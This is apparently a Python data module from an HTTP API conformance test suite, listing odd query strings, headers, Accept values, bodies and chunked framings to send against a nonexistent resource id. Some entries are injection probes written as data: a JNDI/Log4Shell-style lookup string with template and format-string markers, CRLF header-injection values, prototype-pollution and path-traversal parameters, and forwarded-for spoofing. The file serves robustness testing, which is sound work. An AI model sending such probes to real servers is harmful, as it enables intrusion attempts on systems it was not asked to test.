"""What is odd beside the id: queries, headers, Accept, bodies; the id is then a UUID that no pairing has."""

from __future__ import annotations

from typing import TYPE_CHECKING

from conformance.plan.proposals.texts import INJECTED

if TYPE_CHECKING:
    from conformance.model.http import Headers

QUERIES: tuple[tuple[str, ...], ...] = (
    ("force=true", "cascade=true&recursive=true&purge=true"),
    ("pairing_id=x&pairing_id=y", "x=y&x=y", "x=1&y=2&x=3"),
    ("a=%00",),
    ("a=%zz&b=x%",),
    ("limit=-5&offset=99999999999999999999",),
    (f"a=%0d%0a{INJECTED.replace(' ', '%20')}",),
    ("a=%FF%C0%AF",),
    ("pairing_id=x",),
    ("", "?a?b?"),
    ("x", "force="),
    ("a=%E2%82%AC%F0%9F%98%80",),
    ("filter=x'%22%3C&sort_by=;",),
    ("_method=GET", "_method=PUT"),
    ("pairing_id[]=x&pairing_id[0]=y&pairing_id[a][b]=z",),
    ("&&&==&=x&y", "a=b;c=d"),
    ("__proto__[x]=y&constructor=z", "a=../../x"),
    ("callback=x&format=xml&_format=yaml",),
    ("x=" + "y" * 1000,),
    ("x=" + "y" * 4000,),
    ("&".join(f"x{number}=y" for number in range(500)), "&".join(["x=y"] * 200)),
    ("a=\xe4\xff",),
    ('a="<>{}|^`\\',),
)
"""Queries by class: flags, methods, the parameter's own name, other parameters, octets, syntax, size."""

HEADERS: tuple[tuple[Headers, ...], ...] = (
    (
        (
            *(("Accept-Language", "de-CH, de;q=0.9, *;q=0.5"), ("Cache-Control", "no-cache"), ("Pragma", "no-cache")),
            *(("Referer", "https://x.invalid/x?y=z#x"), ("DNT", "1"), ("Sec-Fetch-Mode", "cors")),
        ),
    ),
    ((("Authorization", "Bearer x"),), (("Authorization", "x"),)),
    ((("Content-Type", "x/y; charset=\"'"),), (("Content-Type", "x"),)),
    ((("Content-Type", "application/json"),),),
    ((("Cache-Control", "no-cache"),), (("Cache-Control", "max-age=x, =, no-store"), ("Pragma", 'x="'))),
    ((("Accept-Language", "*"),), (("Accept-Language", ""),)),
    ((("Accept-Language", "xx-XX-x-x;q=9, *;q=-1, \xe4"),),),
    ((("Accept-Language", "-"),), (("Accept-Language", "x"),), (("Accept-Language", "_, ;q=0, x-, de--DE;q="),)),
    ((("Accept-Language", ", ".join(f"x{number}-x;q=0.{number}" for number in range(100, 200))),),),
    ((("X-Forwarded-For", "127.0.0.1"),), (("X-Forwarded-For", "192.0.2.1"), ("X-Forwarded-For", "192.0.2.2"))),
    ((("X-Forwarded-For", "x, 999.999.999.999, [::1]:99999, unknown"), ("X-Forwarded-Port", "-1")),),
    ((("Referer", "x:\\\\'\"<>"),),),
    ((("If-Match", "*"),), (("If-Match", '"x"'), ("If-None-Match", "*"))),
    ((("Content-Encoding", "x"),), (("Content-Language", "x"), ("Content-Location", "http://x.invalid/"))),
    ((("Range", "bytes=0-0"),), (("Range", "bytes=99-1,-,x"),)),
    ((("Connection", "close"),),),
    ((("Connection", "keep-alive"), ("Keep-Alive", "timeout=5, max=100")),),
    ((("Connection", "TE"), ("TE", "trailers")),),
    ((("Connection", "Upgrade"), ("Upgrade", "websocket")),),
    ((("Origin", "http://x.invalid"),), (("Origin", "null"),)),
    ((("Cookie", 'a=b; =; ;; $x="y; JSESSIONID=x'),), (("Cookie", "a=b"), ("Cookie", "a=c"))),
    ((("X-HTTP-Method-Override", "GET"),),),
    ((("If-Modified-Since", "Thu, 99 Foo 99999 99:99:99 GMT"),), (("If-Unmodified-Since", "x"),)),
    ((("X-Forwarded-Host", "x.invalid"), ("X-Forwarded-Proto", "x")),),
    ((("Forwarded", 'for="_x";host=x.invalid;proto=,for='),), (("Via", "1.1 x, 9.9 y"),)),
    ((("Prefer", "respond-async, wait=99999999999999999999"),),),
    ((("Accept-Encoding", "x, *;q=x"),), (("Accept-Encoding", "gzip;q=0"),)),
    ((("Accept-Charset", "utf-7, x;q=0"),),),
    ((("X-Request-Id", "x" * 200), ("traceparent", "00-x-y-zz"), ("X-B3-TraceId", "'\"")),),
    ((("X-Request-Id", f"x%0d%0a{INJECTED}"),), (("X-Request-Id", f"x\xe5\x98\x8d\xe5\x98\x8a{INJECTED}"),)),
    ((("User-Agent", "${jndi:ldap://x.invalid/x} {{7*7}} %s%n"),), (("User-Agent", ""),)),
    ((("X-Odd", "\xff\xfe\x80"),),),
    ((("X-Odd", "\xf0\x9f\x98\x80 \xe2\x82\xac"),),),
    ((("X-Odd", ""), ("X-Odd", ""), ("x-odd", "z")), (("X-Odd", "'\"<>{}[]\\^`|"),), (("X-Odd", "\t x \t y \t"),)),
    ((("X_Odd", "x"), ("X.Odd!#$%&'*+^`|~", "y")),),
    ((("X-Long", "x" * 1024),),),
    ((("X-Long", "x" * 4096),),),
    ((("X-Long", "x" * 8192),),),
    ((("X-" + "Long" * 64, "x"),),),
    (tuple((f"X-Many-{number}", "x") for number in range(50)),),
)
"""Headers by class: a browser's, forwarding, conditions, connections, cookies, tracing, octets, size.

`Authorization` holds nobody's name, so that no account is locked. No `Upgrade: h2c`, which a server may obey."""

LEFT_OUT: tuple[tuple[str, ...], ...] = (("User-Agent",), ("Accept",), ("User-Agent", "Accept", "Accept-Encoding"))
"""Usual headers that a request need not have."""

ACCEPTS: tuple[tuple[str, ...], ...] = (
    ("text/*", "image/*"),
    ("application/xml",),
    ("",),
    ("text/html, application/xml;q=0.9, text/plain",),
    ("*/*",),
    ("application/json;q=0", "application/json;q=9999999999, */*;q=-1"),
    ("x",),
    ("text/plain",),
    ("application/json;version=99;charset=utf-7",),
    ("application/problem+json",),
    (";;;,,,q=", "*/json, /, x/y/z", "application/vnd.x\xe4+json"),
    (", ".join(f"x/y{number}" for number in range(200)),),
)

_JSON = "application/json"
_DEEP = 2000
BODIES: tuple[tuple[tuple[str, bytes], ...], ...] = (
    ((_JSON, b'{"x": '),),
    ((_JSON, b"{}"), (_JSON, b'{"force": true}')),
    ((_JSON, b"null"),),
    (("application/xml", b'<?xml version="1.0"?><x/>'),),
    ((_JSON, b"[]"), (_JSON, b'{"x": NaN, "x": 1e999}')),
    (("text/plain", b"x"),),
    (("application/x-www-form-urlencoded", b"_method=GET&x=%zz"),),
    (("multipart/form-data", b"--x\r\n\r\n"),),
    (("", b"x"), ("x", b"{}")),
    ((_JSON, b"[" * _DEEP + b"]" * _DEEP),),
    ((_JSON, b'{"x": "\xff\xfe\x00"}'), (_JSON, b'\xef\xbb\xbf{"x": "\\ud800"}')),
    ((_JSON, b'{"x": "' + b"y" * 65_527 + b'"}'),),
    (("application/octet-stream", bytes(range(256))),),
)
"""Bodies by class, each with its media type (empty for none): JSON whole, cut, deep, ill encoded, large; others."""

_CHUNKED = ("Transfer-Encoding", "chunked")
FRAMED: tuple[tuple[Headers, bytes], ...] = (
    ((("Content-Type", _JSON), _CHUNKED), b"2\r\n{}\r\n0\r\n\r\n"),
    ((("Content-Type", _JSON), ("Expect", "100-continue")), b"{}"),
    ((_CHUNKED,), b"0\r\n\r\n"),
    ((("Content-Type", _JSON), _CHUNKED), b"1;x=y\r\n{\r\n01\r\n}\r\n0\r\nX-Odd: x\r\n\r\n"),
)
"""Bodies that are framed in the other ways that HTTP has (RFC 9112 7.1, RFC 9110 10.1.1), with all their headers."""

OF_THE_CONNECTION = frozenset(headers for members in HEADERS for headers in members) | {each for each, _ in FRAMED}
"""Headers that may go out as a whole even where they tell of the connection."""
